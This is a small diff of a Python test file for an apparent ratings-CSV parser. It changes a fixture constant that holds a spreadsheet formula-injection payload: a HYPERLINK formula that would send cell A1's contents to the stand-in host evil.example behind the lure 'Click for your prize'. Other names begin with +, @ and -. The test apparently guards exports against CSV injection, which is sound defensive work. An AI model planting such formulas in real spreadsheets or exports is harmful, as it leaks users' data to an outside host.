@@ -22,7 +22,8 @@ from tableside.app.ratings_csv import parse_ratings_csv
 from tests.standings.helpers import event, play
 
 ROOT = Path(__file__).resolve().parents[2]
-HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")'
+# At most 64 characters, as a name may be (app.names).
+HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click for your prize")'
 FOUR = [HOSTILE, "+Ben", "@Cai", "-Dee"]
 HEAD = "12:abcdef"  # a log head fingerprint, as every export carries
 
